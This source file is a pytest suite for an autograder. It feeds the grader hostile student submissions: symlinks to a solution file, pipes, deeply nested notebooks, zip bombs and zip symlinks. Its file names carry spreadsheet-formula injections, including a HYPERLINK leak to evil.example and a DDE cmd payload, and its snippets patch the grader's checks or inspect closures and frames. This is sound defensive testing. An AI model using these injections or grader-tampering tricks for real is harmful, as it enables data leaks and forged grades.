"""Batch inputs that would break or fool the trusted side, graded by the real `dlgrade grade`:
links out of (and within) the submitted folder, pipes, notebooks nested without end or with
damaged cells, file names that are spreadsheet formulas, zips with too many entries, links or
over-long names, and the constructs the report's "needs a human look" list must name."""

from __future__ import annotations

import csv
import html
import importlib
import json
import os
import re
import zipfile
from pathlib import Path

import pytest
from conftest import (
    BACKWARD,
    FORWARD,
    TOY,
    TOY_MAX,
    WRONG_BACKWARD,
    WRONG_SCORE,
    grade_json,
    run_dlgrade,
    write_notebook,
)

from grader.core.loading import SubmissionUnreadable, load_submission

collecting = importlib.import_module("grader.batch.collect")  # the module, not its function
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
FORMULA = tuple("=+-@\t\r")
LONG = "n" * 240  # a stem whose state file name would pass the system's 255 bytes


def _rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _gradebook(out: Path) -> dict[str, dict]:
    with open(out / "gradebook.csv", newline="", encoding="utf-8") as handle:
        return {row["submission"]: row for row in csv.DictReader(handle)}


def _result(out: Path, student: str) -> dict:
    return json.loads((out / "results" / f"{student}.json").read_text())


def _look(out: Path) -> str:
    page = (out / "report.html").read_text()
    return html.unescape(page.split("Needs a human look")[1].split("<h2>")[0])


def _look_rows(out: Path) -> dict[str, str]:
    """Each student of the "needs a human look" table, with the text of their row."""
    look = _look(out)
    return {m.group(1): m.group(2) for m in
            re.finditer(r'<a href="feedback/[^"]*">([^<]*)</a></td>(.*?)</tr>', look, re.S)}


def _all_written(out: Path, students) -> None:
    for name in ("gradebook.csv", "final_grades.csv", "report.html"):
        assert (out / name).is_file(), name
    for student in students:
        for path in (out / "results" / f"{student}.json", out / "feedback" / f"{student}.md",
                     out / "feedback" / f"{student}.html"):
            assert path.is_file(), path


def _notebook_with_source(folder: Path, name: str, source) -> Path:
    path = write_notebook(folder / name, [FORWARD, BACKWARD])
    notebook = json.loads(path.read_text())
    notebook["cells"][1]["source"] = source
    path.write_text(json.dumps(notebook))
    return path


# ---------------------------------------------------------------- links, pipes, nesting

@pytest.fixture(scope="module")
def links(tmp_path_factory) -> tuple[Path, Path, object]:
    root = tmp_path_factory.mktemp("links")
    outside, inbox = root / "outside", root / "inbox"
    outside.mkdir()
    inbox.mkdir()
    # Outside the submitted folder: a full-marks notebook, and a pipe that would block
    # whoever opened it (the batch finishing shows nothing read through a link).
    write_notebook(outside / "solution.ipynb", [FORWARD, BACKWARD])
    os.mkfifo(outside / "blocking.ipynb")
    write_notebook(inbox / "reference.ipynb", [FORWARD, BACKWARD])
    write_notebook(inbox / "wrong.ipynb", [FORWARD, WRONG_BACKWARD])
    os.symlink("../outside/solution.ipynb", inbox / "sym.ipynb")
    os.symlink(outside / "solution.ipynb", inbox / "absolute.ipynb")
    os.symlink(outside / "blocking.ipynb", inbox / "blocking.ipynb")
    os.symlink("reference.ipynb", inbox / "inner.ipynb")
    os.symlink("../outside", inbox / "bob")
    (inbox / "carol").mkdir()
    write_notebook(inbox / "carol" / "hw.ipynb", [FORWARD, WRONG_BACKWARD])
    os.symlink("../../outside/solution.ipynb", inbox / "carol" / "zz-solution.ipynb")
    (inbox / "erin").mkdir()
    os.symlink("../../outside", inbox / "erin" / "sub")
    os.mkfifo(inbox / "pipe.ipynb")
    (inbox / "deep.ipynb").write_text("[" * 200_000)
    (inbox / "deepdict.ipynb").write_text('{"a": ' * 200_000)
    _notebook_with_source(inbox, "badsource.ipynb", [1, 2])
    _notebook_with_source(inbox, "nullsource.ipynb", None)
    (inbox / "deep_python.py").write_text("x = " + "-" * 100_000 + "1\n# %%\n" + FORWARD
                                          + "\n# %%\n" + BACKWARD)
    (inbox / "brackets.py").write_text("[" * 200_000 + "\n# %%\n" + FORWARD + BACKWARD)
    write_notebook(inbox / f"{LONG}.ipynb", [FORWARD, BACKWARD])
    out = root / "out"
    done = run_dlgrade("grade", TOY, inbox, "-o", out, "--jobs", "2")
    assert done.returncode == 0, done.stderr
    return inbox, out, done


REFUSED = {
    "sym": "symbolic link pointing outside the submitted folder",
    "absolute": "symbolic link pointing outside the submitted folder",
    "blocking": "symbolic link pointing outside the submitted folder",
    "bob": "symbolic link pointing outside the submitted folder",
    "erin": "symbolic link pointing outside the submitted folder",
    "inner": "symbolic link to another file of the submitted folder",
    "pipe": "not a regular file",
    "deep": "nested far too deeply",
    "deepdict": "nested far too deeply",
    "badsource": "code cell 1 is damaged: its source is not text",
    "nullsource": "code cell 1 is damaged: its source is not text",
}


def test_links_pipes_and_broken_notebooks_are_error_rows_saying_why(links):
    _, out, done = links
    assert "Traceback" not in done.stdout + done.stderr
    book = _gradebook(out)
    for student, why in REFUSED.items():
        result = _result(out, student)
        assert (book[student]["status"], float(book[student]["total"])) == ("error", 0), student
        assert result["status"] == "error" and why in result["message"], (student, result)
        assert "will grade it again" not in result["message"]  # an answer, not a crash
    _all_written(out, book)


def test_the_rest_of_the_batch_gets_its_honest_scores(links):
    _, out, _ = links
    total = {name: float(row["total"]) for name, row in _gradebook(out).items()}
    assert total["reference"] == total[LONG[:120]] == TOY_MAX
    assert total["wrong"] == WRONG_SCORE
    # carol's own notebook is graded; her link to the solution is never read, only listed.
    assert total["carol"] == WRONG_SCORE
    assert _result(out, "carol")["submission"].endswith("carol/hw.ipynb")
    page = (out / "report.html").read_text()
    assert "carol/zz-solution.ipynb" in page.split("Other files, not graded")[-1]
    # Python nested beyond the parser's limits: the cell fails, the rest still runs.
    for student in ("deep_python", "brackets"):
        result = _result(out, student)
        assert result["status"] == "graded" and result["score"] == TOY_MAX, result
        assert "code cell 1" in result["message"]


def test_refusals_are_cached_like_any_result(links):
    inbox, out, _ = links
    again = run_dlgrade("grade", TOY, inbox, "-o", out)
    assert again.returncode == 0, again.stderr
    count = len(_gradebook(out))
    assert f"nothing to grade: all {count} submissions are up to date" in again.stdout


def test_a_link_given_on_the_command_line(links, tmp_path):
    inbox, _, _ = links
    folder_link = tmp_path / "inbox-link"
    os.symlink(inbox, folder_link)
    done = run_dlgrade("grade", TOY, folder_link, "-o", tmp_path / "out")
    assert done.returncode == 2 and "is a symbolic link to a folder" in done.stderr
    assert not (tmp_path / "out" / "gradebook.csv").exists()
    done = run_dlgrade("grade", TOY, inbox / "sym.ipynb", inbox / "reference.ipynb",
                       "-o", tmp_path / "out2")
    assert done.returncode == 0, done.stderr
    book = _gradebook(tmp_path / "out2")
    assert book["sym"]["status"] == "error" and book["reference"]["total"] == "16"
    # `dlgrade run` never reads through a link either.
    result = grade_json(inbox / "sym.ipynb")
    assert result["status"] == "error" and "symbolic link" in result["message"]


@pytest.mark.parametrize("depth", [1, 100, 1_000, 10_000, 200_000, 1_000_000])
@pytest.mark.parametrize("opening", ["[", '{"a": ', '{"cells": ['])
def test_any_nesting_depth_is_unreadable_or_read(tmp_path, depth, opening):
    path = tmp_path / "nested.ipynb"
    path.write_text(opening * depth)
    with pytest.raises(SubmissionUnreadable, match="not valid JSON|nested far too deeply"):
        load_submission(path)


@pytest.mark.parametrize("source", [[1, 2], None, {"a": 1}, 5, ["a", 3], [["x"]]])
def test_a_damaged_cell_source_is_unreadable(tmp_path, source):
    path = _notebook_with_source(tmp_path, "damaged.ipynb", source)
    with pytest.raises(SubmissionUnreadable, match="code cell 1 is damaged"):
        load_submission(path)
    result = grade_json(path) if source == [1, 2] else None
    if result:
        assert result["status"] == "error" and "code cell 1 is damaged" in result["message"]


# ---------------------------------------------------------------- formulas and control text

FORMULA_NAMES = ['=HYPERLINK("evil.example?leak","click")', "-2+3", "@SUM(A1)", "+cmd",
                 "\tTAB", "\x07bell\x1b[2J", "=cmd|' calc'!A0", "plain"]


def test_no_cell_of_either_gradebook_is_a_formula(tmp_path, monkeypatch):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for name in FORMULA_NAMES:
        write_notebook(inbox / f"{name}.ipynb", [FORWARD, BACKWARD])
    monkeypatch.chdir(inbox)  # the files given by their bare names, as `dlgrade grade toy *`
    done = run_dlgrade("grade", TOY, "-o", tmp_path / "out", "--", *sorted(os.listdir(inbox)))
    assert done.returncode == 0, done.stderr
    assert not CONTROL.search(done.stdout + done.stderr)
    out = tmp_path / "out"
    for name in ("gradebook.csv", "final_grades.csv"):
        rows = _rows(out / name)
        assert len(rows) == len(FORMULA_NAMES) + (2 if name == "final_grades.csv" else 1)
        for row in rows:
            for cell in row:
                assert not CONTROL.search(cell), (name, cell)
                if cell != "--":
                    assert not cell.startswith(FORMULA), (name, cell)
    files = [row[0] for row in _rows(out / "final_grades.csv")[2:]]
    assert "'=HYPERLINK(\"evil.example?leak\",\"click\").ipynb" in files
    assert "'-2+3.ipynb" in files and "'@SUM(A1).ipynb" in files
    students = [row[0] for row in _rows(out / "gradebook.csv")[1:]]
    assert "'-2+3" in students and "'+cmd" in students and "plain" in students
    assert all(row["max_total"] == "16" for row in _gradebook(out).values())
    for path in out.rglob("*"):
        if path.is_file():
            assert not CONTROL.search(path.read_text().replace("\n", "").replace("\t", "")), \
                path


# ---------------------------------------------------------------- zips

def test_a_zip_with_too_many_entries_is_refused_before_anything_is_graded(tmp_path):
    archive = tmp_path / "bomb.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        for number in range(collecting.MAX_ZIP_ENTRIES + 1):
            bundle.writestr(f"s{number}.py", "")
    done = run_dlgrade("grade", TOY, archive, "-o", tmp_path / "out")
    assert done.returncode == 2, done.stderr
    assert "10,001 entries, over the limit of 10,000" in done.stderr
    assert "nothing was graded" in done.stderr and "Traceback" not in done.stderr
    assert not (tmp_path / "out" / "gradebook.csv").exists()


def test_a_zip_over_its_size_budget_is_refused(tmp_path, monkeypatch):
    archive = tmp_path / "big.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as bundle:
        for number in range(3):
            bundle.writestr(f"s{number}.py", "x" * 1000)
    monkeypatch.setattr(collecting, "MAX_ZIP_BYTES", 2500)
    with pytest.raises(collecting.CollectionError, match="over the limit of 2,500"):
        collecting.collect([str(archive)], tmp_path / "scratch")
    monkeypatch.setattr(collecting, "MAX_ZIP_BYTES", 3000)
    assert len(collecting.collect([str(archive)], tmp_path / "scratch2").submissions) == 3


def test_links_and_long_names_in_a_zip(tmp_path):
    reference = write_notebook(tmp_path / "reference.ipynb", [FORWARD, BACKWARD]).read_bytes()
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("export/alice.ipynb", reference)
        bundle.writestr(f"export/{LONG}x{LONG}.ipynb", reference)  # 481 bytes: too long
        link = zipfile.ZipInfo("export/mallory.ipynb")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        bundle.writestr(link, "../../solutions/toy.py")
    out = tmp_path / "out"
    done = run_dlgrade("grade", TOY, archive, "-o", out)
    assert done.returncode == 0, done.stderr
    book = _gradebook(out)
    assert len(book) == 3 and book["alice"]["total"] == "16"
    assert book[LONG[:120]]["total"] == "16"
    assert book["mallory"]["status"] == "error"
    assert "the zip holds this entry as a symbolic link" in _result(out, "mallory")["message"]
    _all_written(out, book)


# ---------------------------------------------------------------- needs a human look

FLAGGED = {
    "closures": ("def peek(f):\n    return [c.cell_contents for c in f.__closure__]\n",
                 "introspects closures"),
    "globals": ("def peek(f):\n    return f.__globals__['reference'], f.__defaults__\n",
                "introspects a function's globals"),
    "gc_walk": ("import gc\nfound = [o for o in gc.get_objects() if callable(o)][:5]\n",
                "walks the interpreter's objects: gc.get_objects()"),
    "frames": ("import sys\nframe = sys._getframe(0).f_back\n", "inspects frames"),
    "inspect_frames": ("import inspect\ndef up():\n    return inspect.currentframe().f_back\n",
                       "imports inspect"),
    "wire": ("import sys\ndef quiet():\n"
             "    sys.modules['grader.sandbox.wire'].encode = lambda value: b''\n",
             "replaces grader.sandbox.wire.encode"),
    "grader_alias": ("def quiet():\n    import grader.numerics as n\n"
                     "    n.assert_close = lambda *a, **k: None\n",
                     "replaces grader.numerics.assert_close"),
    "import_grader": ("def look():\n    import grader\n    return grader\n",
                      "imports the grader's own modules (grader)"),
    "code_write": ("def f():\n    pass\ndef g():\n    return 1\ndef swap():\n"
                   "    f.__code__ = g.__code__\n", "writes .__code__"),
    "counter": ("def reset(f):\n    f.__closure__[0].cell_contents = 0\n",
                "writes .cell_contents"),
    "ctypes_poke": ("def poke():\n    import ctypes\n    return ctypes.cast(0, ctypes.py_object)\n",
                    "imports ctypes"),
    "getattr_gc": ("import gc as g\nwalk = getattr(g, 'get_objects')\n", "'get_objects'"),
}


@pytest.fixture(scope="module")
def flagged(tmp_path_factory) -> Path:
    inbox = tmp_path_factory.mktemp("flagged") / "inbox"
    inbox.mkdir()
    write_notebook(inbox / "reference.ipynb", [FORWARD, BACKWARD])
    write_notebook(inbox / "float32.ipynb", [
        "import numpy as np\n\ndef affine(x, W, b):\n    return (x @ W + b).astype(np.float32)\n",
        BACKWARD])
    write_notebook(inbox / "numerics_user.ipynb", [
        "import gc\nimport numpy as np\ngc.collect()\n" + FORWARD, BACKWARD])
    for name, (cell, _) in FLAGGED.items():
        write_notebook(inbox / f"{name}.ipynb", [FORWARD, cell, BACKWARD])
    out = inbox.parent / "out"
    done = run_dlgrade("grade", TOY, inbox, "-o", out, "--jobs", "2")
    assert done.returncode == 0, done.stderr
    return out


def test_forging_constructs_are_listed_for_a_human_look(flagged):
    rows = _look_rows(flagged)
    for name, (_, flag) in FLAGGED.items():
        assert name in rows, name
        assert f"suspicious: {flag}" in rows[name] or flag in rows[name], (name, rows[name])
    assert "reference" not in rows and "numerics_user" not in rows
    # Advisory only: every one of them gets its honest score.
    total = {name: float(row["total"]) for name, row in _gradebook(flagged).items()}
    assert all(total[name] == TOY_MAX for name in FLAGGED), total


def test_flags_are_short_and_few(flagged):
    for name in FLAGGED:
        record = json.loads((flagged / ".dlgrade" / f"{name}.json").read_text())
        assert 1 <= len(record["flags"]) <= 6, record["flags"]
        assert all(len(flag) <= 120 for flag in record["flags"]), record["flags"]


def test_the_flag_list_is_bounded_however_much_a_submission_holds(tmp_path):
    from grader.batch.flags import MOST_FLAGS, suspicious

    cells = [f"import gc\nx{n} = gc.get_objects()\nopen('/etc/{'p' * 10_000}{n}')\n"
             for n in range(100)]
    found = suspicious(cells)
    assert len(found) == MOST_FLAGS + 1 and found[-1].startswith("and ")
    assert all(len(flag) <= 150 for flag in found)
    assert suspicious(["x = " + "-" * 100_000 + "1"]) == \
        ["code too deeply nested to be read for this list (code cell 1)"]
    assert suspicious(["[" * 100_000, "(" * 500 + ")" * 500, "\ud800 = 1"]) == []


def test_a_jupyterhub_home_is_graded_on_the_assignments_notebook(tmp_path):
    """A folder per student holding the assignment's notebook beside newer scratch notebooks
    (a course JupyterHub's homes, nbgrader's layout): the notebook named after the assignment
    is graded, whatever is newer; the report says which file each student was graded on and
    lists the others."""
    inbox = tmp_path / "home"
    for student in ("ada", "bo"):
        (inbox / student).mkdir(parents=True)
    write_notebook(inbox / "ada" / "toy.ipynb", [FORWARD + "\n" + BACKWARD])
    write_notebook(inbox / "ada" / "scratch.ipynb", ["x = 1"])
    write_notebook(inbox / "ada" / "Untitled.ipynb", [FORWARD + "\n" + WRONG_BACKWARD])
    os.utime(inbox / "ada" / "toy.ipynb", (1_000, 1_000))  # the oldest of the three
    write_notebook(inbox / "bo" / "Untitled.ipynb", [FORWARD + "\n" + WRONG_BACKWARD])
    out = tmp_path / "out"
    done = run_dlgrade("grade", TOY, inbox, "-o", out)
    assert done.returncode == 0, done.stderr
    assert "(2 older submissions superseded)" in done.stdout
    total = {name: float(row["total"]) for name, row in _gradebook(out).items()}
    assert total == {"ada": TOY_MAX, "bo": WRONG_SCORE}
    assert _result(out, "ada")["submission"].endswith("ada/toy.ipynb")
    page = html.unescape((out / "report.html").read_text())
    graded, others = page.split("Other files, not graded")
    assert "home/ada/toy.ipynb" in graded and "home/bo/Untitled.ipynb" in graded
    assert sorted(re.findall(r"<td>([^<]*)</td><td>ada</td>", others)) == [
        f"{inbox}/ada/Untitled.ipynb", f"{inbox}/ada/scratch.ipynb"]


def test_only_regrades_the_named_students_and_keeps_every_other_row(tmp_path):
    inbox, out = tmp_path / "inbox", tmp_path / "out"
    inbox.mkdir()
    right, wrong = FORWARD + "\n" + BACKWARD, FORWARD + "\n" + WRONG_BACKWARD
    for student, cells in (("ada", right), ("bo", wrong), ("cy", right)):
        write_notebook(inbox / f"{student}.ipynb", [cells])
    assert run_dlgrade("grade", TOY, inbox, "-o", out).returncode == 0
    write_notebook(inbox / "bo.ipynb", [right])  # bo's regrade request, fixed
    write_notebook(inbox / "cy.ipynb", [wrong])  # changed, but not asked for: kept as graded
    write_notebook(inbox / "dee.ipynb", [right])  # new: graded too, every file has its row
    done = run_dlgrade("grade", TOY, inbox, "-o", out, "--only", "bo")
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("grading 2 of 4 submissions: 1 named by --only and 1 never "
                                  "graded before; the other 2 kept as they are, on ")
    total = {name: float(row["total"]) for name, row in _gradebook(out).items()}
    assert total == {"ada": TOY_MAX, "bo": TOY_MAX, "cy": TOY_MAX, "dee": TOY_MAX}
    assert [Path(row[0]).name for row in _rows(out / "final_grades.csv")[2:]] == [
        "ada.ipynb", "bo.ipynb", "cy.ipynb", "dee.ipynb"]
    done = run_dlgrade("grade", TOY, inbox, "-o", out, "--only", "bo,zed")
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == ("dlgrade: error: --only names zed, not among the 4 students found "
                           "(as the gradebook names them: ada, bo, cy, dee)\n")
    everyone = run_dlgrade("grade", TOY, inbox, "-o", out)  # cy's change now
    assert everyone.stdout.startswith("grading 1 of 4 submissions")
    assert {name: float(row["total"]) for name, row in _gradebook(out).items()} == {
        "ada": TOY_MAX, "bo": TOY_MAX, "cy": WRONG_SCORE, "dee": TOY_MAX}
